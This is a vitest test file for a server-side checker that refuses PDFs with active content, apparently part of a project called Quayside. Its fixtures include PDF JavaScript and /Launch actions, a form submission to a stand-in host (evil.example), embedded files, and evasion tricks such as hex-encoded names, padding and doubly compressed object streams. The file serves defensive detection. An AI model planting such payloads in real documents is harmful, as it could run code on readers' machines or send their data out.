import { deflateRawSync, deflateSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { writePdf } from '#server/platform/pdf/write-pdf.ts'
import { pdf } from '#tests/support/licences.ts'
import { checkPdf } from './active-pdf.ts'

const withObject = (text: string | Buffer) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj\n'),
    Buffer.from(text),
    Buffer.from('\nendobj\n2 0 obj\n<< /Type /Page >>\nendobj\ntrailer\n<< >>\n%%EOF\n'),
  ])
const streamOf = (dictionary: string, content: Buffer, lineBreak = '\r\n') =>
  withObject(
    Buffer.concat([Buffer.from(`${dictionary}\nstream${lineBreak}`), content, Buffer.from('\nendstream')]),
  )
const packed = (text: string, dictionary = '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>') =>
  streamOf(dictionary, deflateSync(text))

const refused = async (bytes: Buffer) => {
  const checked = await checkPdf(bytes)
  return checked.ok ? 'accepted' : checked.refusal
}

describe('a PDF is refused', () => {
  test.each<[string, Buffer]>([
    ['with a script', withObject('<< /S /JavaScript /JS (app.alert(1)) >>')],
    ['with a script that opens with it', withObject('<< /OpenAction << /S /JavaScript >> >>')],
    ['with an action that opens with it', withObject('<</OpenAction 5 0 R>>')],
    ['with a program to start', withObject('<< /S/Launch/F(calc.exe) >>')],
    ['with a file inside', withObject('<< /Type /EmbeddedFile >>')],
    ['with a tree of files', withObject('<< /EmbeddedFiles 7 0 R >>')],
    ['with a name in codes', withObject('<< /S /J#61vaScr#69pt >>')],
    ['with a name in codes alone', withObject('<< /S /#4c#61#75#6E#63#68 >>')],
    ['with a script in an object stream', packed('4 0 << /S /JavaScript >>')],
    [
      'with a script in a packed stream of no type',
      packed('<< /S /JavaScript >>', '<< /Filter /FlateDecode >>'),
    ],
    ['with a script behind 300 KiB', packed(`${' '.repeat(300 * 1024)}/Launch `)],
    [
      'with an object stream that cannot be unpacked',
      streamOf('<< /Type /ObjStm >>', deflateRawSync('x'.repeat(99))),
    ],
    [
      'with an object stream that is cut off',
      streamOf('<< /Type /Obj#53tm >>', deflateSync('x'.repeat(999)).subarray(0, 9)),
    ],
    ['with an object stream of 17 MiB', packed('x'.repeat(17 * 1024 * 1024))],
    ['with a name across two steps', withObject(`${' '.repeat(256 * 1024 - 22)}/JavaScript `)],
    [
      'with a script in an object stream that is packed twice',
      streamOf(
        '<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] >>',
        deflateSync(deflateSync('4 0 << /S /JavaScript >>')),
      ),
    ],
    [
      'with an object stream in another packing',
      streamOf('<< /Type /ObjStm /Filter /LZWDecode >>', deflateSync('4 0 << >>')),
    ],
    ['with a form of another format', withObject('<< /AcroForm << /XFA 5 0 R >> >>')],
    ['with a form that is sent', withObject('<< /S /SubmitForm /F (http://evil.example) >>')],
    ['with data that is read into it', withObject('<< /S /ImportData /F (data.fdf) >>')],
    ['with a link to another file', withObject('<< /S /GoToR /F (share) >>')],
    ['with a link to a file inside', withObject('<< /S /GoToE >>')],
    ['with media that plays', withObject('<< /Subtype /RichMedia >>')],
    ['without a page', Buffer.from(`%PDF-1.4\n${' '.repeat(1024 * 1024)}\n%%EOF\n`)],
    ['with more streams than any licence has', withObject('stream\n'.repeat(4_001))],
  ])('%s', async (_what, bytes) => {
    expect(await refused(bytes)).toBe('active-pdf')
  })
})

describe('an encrypted PDF is refused with a message of its own', () => {
  const trailer = (entry: string) => Buffer.from(`%PDF-1.7\ntrailer\n<< /Root 1 0 R ${entry} >>\n%%EOF\n`)
  test.each<[string, Buffer]>([
    ['by its trailer', trailer('/Encrypt 5 0 R')],
    ['by its trailer, written in it', trailer('/Encrypt<</Filter/Standard/V 4>>')],
    ['by its trailer, in codes', trailer('/#45ncr#79pt 5 0 R')],
    [
      'by its cross-reference stream',
      streamOf('<< /Type /XRef /Encrypt 5 0 R /Filter /FlateDecode >>', deflateSync('x')),
    ],
    [
      'though it has an object stream that cannot be unpacked',
      Buffer.concat([streamOf('<< /Type /ObjStm >>', Buffer.from('encrypted')), trailer('/Encrypt 5 0 R')]),
    ],
  ])('%s', async (_what, bytes) => {
    expect(await refused(bytes)).toBe('encrypted-pdf')
  })
})

test('so many PDFs are looked at and wait at once, the next is refused as busy', async () => {
  const found = await Promise.all(Array.from({ length: 23 }, () => refused(pdf())))
  expect(found.filter((one) => one !== 'accepted')).toEqual(['busy'])
})

describe('a PDF is accepted', () => {
  test.each<[string, Buffer]>([
    ['that says how its metadata would be encrypted', withObject('<< /EncryptMetadata true >>')],
    ['with a packed page that says /Encrypt', packed('(/Encrypt 5 0 R)', '<< /Filter /FlateDecode >>')],
    ['that is plain', pdf()],
    ['that opens at its first page', withObject('<< /OpenAction [3 0 R /XYZ null null 0] >>')],
    ['that opens at its first page, without a space', withObject('<</OpenAction[3 0 R /Fit]>>')],
    ['with words like these', withObject('<< /Title (JavaScript, Launch) /LaunchDate 1 /OpenActions 2 >>')],
    [
      'with its page in an object stream',
      Buffer.from(
        packed('4 0 << /Type /Page >>').toString('latin1').replace('2 0 obj\n<< /Type /Page >>', ''),
        'latin1',
      ),
    ],
    ['with an object stream of a page', packed('4 0 << /Type /Page >>')],
    ['with a picture that is not packed', streamOf('<< /Subtype /Image >>', Buffer.from('ff'.repeat(999)))],
    [
      'with a large picture',
      packed('x'.repeat(17 * 1024 * 1024), '<< /Subtype /Image /Filter /FlateDecode >>'),
    ],
  ])('%s', async (_what, bytes) => {
    expect(await refused(bytes)).toBe('accepted')
  })

  test('that we wrote ourselves', async () => {
    const written = await writePdf(() => ({
      title: 'A document',
      author: 'Quayside',
      language: 'zh',
      createdAt: new Date('2026-11-15T04:00:00Z'),
      content: ['启舷 Quayside'],
      styles: {},
      foot: [],
      pageWords: '{{page}} / {{pages}}',
    }))
    expect(await refused(Buffer.from(written.ok ? written.value : []))).toBe('accepted')
  })
})
